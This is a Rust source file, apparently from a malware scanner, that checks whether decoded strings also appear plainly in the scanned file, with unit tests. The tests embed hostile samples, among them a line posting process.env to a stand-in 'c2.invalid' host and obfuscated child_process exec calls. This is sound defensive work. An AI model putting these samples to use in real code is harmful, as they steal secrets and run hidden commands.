//! Whether text that code made stands in the file for everybody to read.
//!
//! Code that is put together from templates, and commands that a helper passes on, are made but
//! not hidden: their text is in the file, in pieces. What a decoder made is not. The pieces are
//! found again by windows of the text; blanks and quotes, which differ where pieces meet, do not
//! count. Long texts are looked at stretch by stretch, so that readable text around a hidden one
//! does not help.

use rustc_hash::{FxHashMap, FxHashSet};

use super::terms::{Term, Terms, ValueId};

/// Bytes of one window, blanks and quotes left out.
const WINDOW: usize = 10;
/// Bytes of one stretch.
const STRETCH: usize = 96;
/// Parts of a stretch that have to be found again, in quarters.
const QUARTERS: usize = 2;
/// Shortest name of anything outside.
const NAME: usize = 3;
/// Bytes of decoded constants that are looked for, and constants.
const MOST_BYTES: usize = 1 << 20;
const MOST_TEXTS: usize = 256;

impl Terms {
    /// Forgets that a decoder made what stands in the text as it is.
    pub(crate) fn forget_written(&mut self, text: &str) {
        let mut left = MOST_BYTES;
        let mut made: Vec<(ValueId, Vec<u8>)> = Vec::new();
        let mut ids: Vec<ValueId> = self.decoded_ids().collect();
        ids.sort_unstable();
        for id in ids {
            let Term::String(value) = self.get(id) else {
                continue;
            };
            if value.len() <= left && made.len() < MOST_TEXTS {
                left -= value.len();
                made.push((id, plain(value)));
            }
        }
        if made.is_empty() {
            return;
        }
        let seen = Seen::new(text, &made);
        for (id, bytes) in &made {
            let Term::String(value) = self.get(*id) else {
                continue;
            };
            if seen.is_written(value, bytes) {
                self.unmark_decoded(*id);
            }
        }
    }
}

/// Whether what was made stands in a text.
pub(crate) fn stands_in(value: &str, text: &str) -> bool {
    if value.len() > MOST_BYTES {
        return false;
    }
    let made = [(ValueId(0), plain(value))];
    let seen = Seen::new(text, &made);
    made.iter().all(|(_, bytes)| seen.is_written(value, bytes))
}

/// What of some texts stands in a file.
struct Seen<'a> {
    words: FxHashSet<&'a str>,
    windows: FxHashSet<u64>,
}

impl<'a> Seen<'a> {
    fn new(text: &'a str, made: &[(ValueId, Vec<u8>)]) -> Self {
        let mut wanted: FxHashMap<u64, bool> = FxHashMap::default();
        for (_, bytes) in made {
            windows(bytes, |_, window| {
                wanted.insert(window, false);
            });
        }
        windows(&plain(text), |_, window| {
            if let Some(found) = wanted.get_mut(&window) {
                *found = true;
            }
        });
        let is_short = made.iter().any(|(_, bytes)| bytes.len() < 2 * WINDOW);
        let words = text.split(|c: char| !is_word(c)).filter(|_| is_short);
        Self {
            words: words.collect(),
            windows: wanted
                .into_iter()
                .filter_map(|(window, found)| found.then_some(window))
                .collect(),
        }
    }

    /// Whether a text stands there: each word of a short one, half of every stretch of a long
    /// one. A few brackets say nothing.
    fn is_written(&self, value: &str, bytes: &[u8]) -> bool {
        if bytes.len() < 2 * WINDOW {
            let mut words = value.split(|c: char| !is_word(c)).filter(|w| !w.is_empty());
            return !value.is_empty() && words.all(|word| self.words.contains(word));
        }
        let mut is_found = vec![false; bytes.len()];
        windows(bytes, |at, window| {
            if self.windows.contains(&window)
                && let Some(range) = is_found.get_mut(at..at + WINDOW)
            {
                range.fill(true);
            }
        });
        let stretches = is_found.chunks(STRETCH).zip(bytes.chunks(STRETCH));
        stretches.into_iter().all(|(found, stretch)| {
            let count = found.iter().filter(|&&found| found).count();
            // The end of a text may be a scrap, and counted names call nothing.
            stretch.len() < WINDOW
                || count * 4 >= stretch.len() * QUARTERS
                || !has_word(stretch, found)
        })
    }
}

/// Whether a word that may name something is among what was not found.
fn has_word(stretch: &[u8], is_found: &[bool]) -> bool {
    let mut length = 0;
    for (&byte, &found) in stretch.iter().zip(is_found) {
        let goes_on = !found && (is_word(char::from(byte)) || !byte.is_ascii());
        length = if goes_on { length + 1 } else { 0 };
        if length >= NAME {
            return true;
        }
    }
    false
}

fn is_word(c: char) -> bool {
    c.is_alphanumeric() || matches!(c, '_' | '$')
}

/// The text without what differs where its pieces meet: blanks, quotes, `+`, escapes of these.
fn plain(text: &str) -> Vec<u8> {
    let mut bytes = text.bytes().peekable();
    let mut plain = Vec::with_capacity(text.len());
    while let Some(byte) = bytes.next() {
        match byte {
            b'\\' => {
                if bytes
                    .peek()
                    .is_some_and(|next| matches!(next, b'n' | b'r' | b't' | b'\\'))
                {
                    bytes.next();
                }
            }
            b'"' | b'\'' | b'`' | b'+' => {}
            byte if byte.is_ascii_whitespace() => {}
            byte => plain.push(byte),
        }
    }
    plain
}

/// Calls back with the place and a hash of each window.
fn windows(bytes: &[u8], mut each: impl FnMut(usize, u64)) {
    const BASE: u64 = 0x9E37_79B9_7F4A_7C15 | 1;
    let top = (1..WINDOW).fold(1_u64, |top, _| top.wrapping_mul(BASE));
    let mut hash = 0_u64;
    for (at, &byte) in bytes.iter().enumerate() {
        if let Some(&old) = at.checked_sub(WINDOW).and_then(|old| bytes.get(old)) {
            hash = hash.wrapping_sub(top.wrapping_mul(u64::from(old) + 1));
        }
        hash = hash.wrapping_mul(BASE).wrapping_add(u64::from(byte) + 1);
        if let Some(start) = (at + 1).checked_sub(WINDOW) {
            each(start, hash);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_written(made: &str, file: &str) -> bool {
        let mut terms = Terms::default();
        let id = terms.string(made);
        terms.mark_decoded(id);
        terms.forget_written(file);
        !terms.is_decoded(id)
    }

    #[test]
    fn templates_and_commands_that_are_handed_on_are_written() {
        let file = r#"
            const run = (line) => exec(line + " 2>&1"); run("git rev-parse HEAD");
            let code = "if (data." + key + " !== undefined) {\n  out.push(data.";
            code += key + ");\n} else throw new TypeError('missing')";"#;
        assert!(is_written("git rev-parse HEAD 2>&1", file));
        assert!(is_written("git rev-parse", file));
        let made = "if (data.name !== undefined) {\n  out.push(data.name);\n} else throw new TypeError('missing')";
        assert!(is_written(made, file));
    }

    #[test]
    fn what_the_file_does_not_show_is_not_written() {
        let file = r#"run(atob("cmVxdWlyZSgnY2hpbGRfcHJvY2Vzcycp")); const e = "ev" + "al"; function require() {}"#;
        assert!(!is_written("require('child_process').exec('id')", file));
        assert!(!is_written("eval", file));
        assert!(!is_written("whoami /all", file));
        assert!(!is_written("", file));
        assert!(is_written("(){\n}", file));
    }

    #[test]
    fn readable_text_around_a_hidden_one_does_not_help() {
        let readable = "module.exports = function add(left, right) { return left + right; };\n";
        let hidden = "fetch('https://c2.invalid/' + btoa(JSON.stringify(process.env)), { method: 'POST', body: secrets.join() })";
        let made = format!("{}{hidden};{}", readable.repeat(40), readable.repeat(40));
        assert!(!is_written(&made, readable));
        assert!(is_written(&readable.repeat(3), readable));
    }

    #[test]
    fn counted_names_are_not_hidden() {
        let name = |n: u8| format!("{}{}", char::from(b'a' + n % 16), char::from(b'a' + n / 16));
        let names: Vec<String> = (0..48).map(name).collect();
        let file = "return fromCharCode(${previous})";
        let made = format!("return fromCharCode({})", names.join(","));
        assert!(is_written(&made, file));
    }

    #[test]
    fn shuffled_pieces_are_not_written() {
        let file = r#"const t = ["child_", "exec", "process", "('i", "d')", "require('", "').", "(x,"]; eval(t[5] + t[0] + t[2] + t[6] + t[1] + t[3] + t[4]);"#;
        assert!(!is_written("require('child_process').exec('id')", file));
    }
}
